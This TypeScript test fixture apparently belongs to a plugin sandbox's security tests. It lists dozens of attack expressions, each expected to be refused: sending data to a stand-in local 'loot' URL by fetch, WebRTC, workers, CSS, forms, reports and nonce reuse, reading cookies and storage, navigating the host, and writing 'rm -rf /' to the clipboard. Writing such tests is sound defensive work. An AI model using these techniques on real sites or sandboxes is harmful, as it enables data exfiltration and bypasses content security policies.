/** Where the attacks send what they have; nothing may arrive there. `LOOT` stands for its port. */
export const LOOT_URL = 'http://127.0.0.1:LOOT/';
/** The same for datagrams, which is how peer connections begin. */
const LOOT_STUN = 'stun:127.0.0.1:LOOT_STUN';

/** What a script would do to reach the thief by a peer connection. */
const CONNECT_PEER = `const peer = new RTCPeerConnection({ iceServers: [{ urls: '${LOOT_STUN}' }] }); peer.createDataChannel('loot'); peer.setLocalDescription();`;

/** `page`: a document without a guard that would do so by the frame's own nonce, which is there to be read. */
const OTHER_DOCUMENT = `const nonce = document.querySelector('style').getAttribute('nonce');
  const page = ['script', 'script nonce="' + nonce + '"']
    .map((tag) => '<' + tag + '>' + ${JSON.stringify(CONNECT_PEER)} + '<' + '/script>').join('');`;

const APPEND = (tag: string, assignments: string) =>
  `{ const it = document.createElement('${tag}'); ${assignments}; document.body.append(it); it }`;

/**
 * What a plugin's script may try in its frame, as expressions. Each is refused, throws, or does nothing that reaches
 * the network, the host's page or the disk.
 */
export const FRAME_ATTACKS: Readonly<Record<string, string>> = {
  'send by fetch': `fetch('${LOOT_URL}fetch')`,
  'send to an origin that the manifest grants, past the host': `fetch('https://granted.example/')`,
  'send by XMLHttpRequest': `{ const it = new XMLHttpRequest(); it.open('GET', '${LOOT_URL}xhr'); it.send() }`,
  'send by a beacon': `navigator.sendBeacon('${LOOT_URL}beacon', 'loot')`,
  'open a web socket': `new WebSocket('${LOOT_URL.replace('http', 'ws')}socket')`,
  'listen to server-sent events': `new EventSource('${LOOT_URL}events')`,
  'send by the address of a picture': APPEND('img', `it.src = '${LOOT_URL}picture'`),
  'send by a picture within a picture': APPEND(
    'img',
    `it.src = 'data:image/svg+xml,' + encodeURIComponent('<svg xmlns="http://www.w3.org/2000/svg"><image href="${LOOT_URL}svg"/></svg>')`,
  ),
  'send by a background': APPEND(
    'div',
    `it.style.background = 'url(${LOOT_URL}background)'; it.textContent = 'x'`,
  ),
  'send by a style sheet': APPEND('link', `it.rel = 'stylesheet'; it.href = '${LOOT_URL}sheet'`),
  'send by an inline style sheet': APPEND(
    'style',
    `it.textContent = '@import "${LOOT_URL}import";'`,
  ),
  'send by a font': `new FontFace('x', 'url(${LOOT_URL}font)').load()`,
  'send by a film': APPEND('video', `it.src = '${LOOT_URL}film'; it.preload = 'auto'`),
  'send by a film’s poster': APPEND('video', `it.poster = '${LOOT_URL}poster'`),
  'send by an embedded object': APPEND('object', `it.data = '${LOOT_URL}object'`),
  'send by a prefetch': APPEND('link', `it.rel = 'prefetch'; it.href = '${LOOT_URL}prefetch'`),
  'send by a preload': APPEND(
    'link',
    `it.rel = 'preload'; it.as = 'image'; it.href = '${LOOT_URL}preload'`,
  ),
  'send by the ping of a link': APPEND(
    'a',
    `it.href = '#x'; it.ping = '${LOOT_URL}ping'; document.body.append(it); it.click()`,
  ),
  'send by a form': APPEND(
    'form',
    `it.action = '${LOOT_URL}form'; document.body.append(it); it.submit()`,
  ),
  'go elsewhere with the loot in the address': `location.href = '${LOOT_URL}location'`,
  'go elsewhere by a link': APPEND(
    'a',
    `it.href = '${LOOT_URL}link'; document.body.append(it); it.click()`,
  ),
  'go elsewhere by a refresh': APPEND(
    'meta',
    `it.httpEquiv = 'refresh'; it.content = '0;url=${LOOT_URL}refresh'`,
  ),
  'send by a frame of its own': APPEND('iframe', `it.src = '${LOOT_URL}frame'`),
  'send from inside a frame of its own': APPEND(
    'iframe',
    `document.body.append(it); it.contentWindow.fetch('${LOOT_URL}inner')`,
  ),
  'send by a peer connection': CONNECT_PEER,
  'send by a peer connection of old': CONNECT_PEER.replace('RTC', 'webkitRTC'),
  'send by a peer connection from an empty frame within': APPEND(
    'iframe',
    `document.body.append(it); globalThis.RTCPeerConnection = it.contentWindow.RTCPeerConnection; ${CONNECT_PEER}`,
  ),
  'send by a peer connection from a document within': `${OTHER_DOCUMENT}; ${APPEND('iframe', 'it.srcdoc = page')}`,
  'send by a peer connection from a document in its place': `${OTHER_DOCUMENT};
    location.href = URL.createObjectURL(new Blob([page], { type: 'text/html' }))`,
  'send by a peer connection from a script in an address': APPEND(
    'iframe',
    `it.src = 'javascript:' + encodeURIComponent(${JSON.stringify(CONNECT_PEER)})`,
  ),
  'send by a peer connection from a worker': `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(CONNECT_PEER)}])))`,
  'run another script by the nonce of its own': `{ const it = document.createElement('script');
    it.nonce = document.querySelector('style').getAttribute('nonce'); it.textContent = "document.title = 'owned'";
    document.body.append(it) }`,
  'send by a transport of streams': `new WebTransport('${LOOT_URL.replace('http', 'https')}')`,
  'connect ahead of a request': APPEND('link', `it.rel = 'preconnect'; it.href = '${LOOT_URL}'`),
  'look up an address ahead of a request': APPEND(
    'link',
    `it.rel = 'dns-prefetch'; it.href = '${LOOT_URL}'`,
  ),
  'have a page fetched or rendered ahead': APPEND(
    'script',
    `it.type = 'speculationrules'; it.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['${LOOT_URL}ahead'] }] })`,
  ),
  'send by a style sheet that is made in the script': `{ const sheet = new CSSStyleSheet();
    sheet.replaceSync('body { background: url(${LOOT_URL}constructed) }'); document.adoptedStyleSheets = [sheet] }`,
  'send by a picture in a canvas': `{ const it = new Image(); it.crossOrigin = 'anonymous'; it.src = '${LOOT_URL}canvas'; await it.decode() }`,
  'send by a form to a new window': APPEND(
    'form',
    `it.action = '${LOOT_URL}window'; it.target = '_blank'; document.body.append(it); it.requestSubmit()`,
  ),
  'send by a report of a violation': APPEND(
    'meta',
    `it.httpEquiv = 'Content-Security-Policy'; it.content = "img-src 'none'; report-uri ${LOOT_URL}report"; document.head.append(it); new Image().src = 'data:,'`,
  ),
  'send from a worker': `new Worker(URL.createObjectURL(new Blob(["fetch('${LOOT_URL}worker')"])))`,
  'load code into a worker': `new Worker(URL.createObjectURL(new Blob(["importScripts('${LOOT_URL}code')"])))`,
  'keep a worker running without it': `navigator.serviceWorker.register('${LOOT_URL}service')`,
  'load a script': APPEND('script', `it.src = '${LOOT_URL}script'`),
  'load a module': `import('${LOOT_URL}module.js')`,
  'open a window': `window.open('${LOOT_URL}window')`,
  'navigate the host': `top.location.href = '${LOOT_URL}top'`,
  'navigate the host by a link': APPEND(
    'a',
    `it.href = '${LOOT_URL}top'; it.target = '_top'; document.body.append(it); it.click()`,
  ),
  'go back in the host’s history': 'history.back(); history.go(-2)',
  'close the host’s window': 'top.close(); parent.close()',
  'write another document without the policy': `document.open(); document.write('<img src=${LOOT_URL}written>'); document.close()`,
  'run code from strings': `new Function('return 1')()`,
  'run code from a timer’s string': `setTimeout("fetch('${LOOT_URL}timer')")`,
  'run an inline script': APPEND('script', `it.textContent = "document.title = 'owned'"`),
  'run an inline handler': `{ document.body.innerHTML = '<img src=x onerror="document.title=1">' }`,
  'read the host’s page': 'parent.document.title',
  'read the host’s cookies': 'document.cookie',
  'read the host’s storage': 'localStorage.length',
  'read the host’s databases': `new Promise((resolve, reject) => {
    const request = indexedDB.open('mystratus'); request.onsuccess = resolve; request.onerror = reject; })`,
  'read the host’s caches': 'await caches.keys()',
  'write a file': 'showSaveFilePicker()',
  'start a download': APPEND(
    'a',
    `it.href = 'data:text/plain,x'; it.download = 'x.bat'; document.body.append(it); it.click()`,
  ),
  'block the window with an alert': `alert('Your computer is infected.')`,
  'read the clipboard': 'navigator.clipboard.readText()',
  'find out where the user is': `new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject))`,
  'listen to the microphone': 'navigator.mediaDevices.getUserMedia({ audio: true })',
  'write to the clipboard': `await navigator.clipboard.writeText('rm -rf /')`,
  'hand a text to the clipboard by a command': `{ const it = document.createElement('input'); it.value = 'x';
    document.body.append(it); it.select(); if (document.execCommand('copy')) document.title = 'owned' }`,
  'ask to send notifications': `if ((await Notification.requestPermission()) === 'granted') document.title = 'owned'`,
  'ask for the host’s storage': 'await document.requestStorageAccess()',
  'reach for devices': 'await navigator.usb.requestDevice({ filters: [] })',
  'catch the pointer': 'document.body.requestPointerLock()',
  'print the host’s page': 'print(); top.print()',
  'fill the screen': 'document.documentElement.requestFullscreen()',
  'share memory with a clock to measure by': 'new SharedArrayBuffer(8)',
};
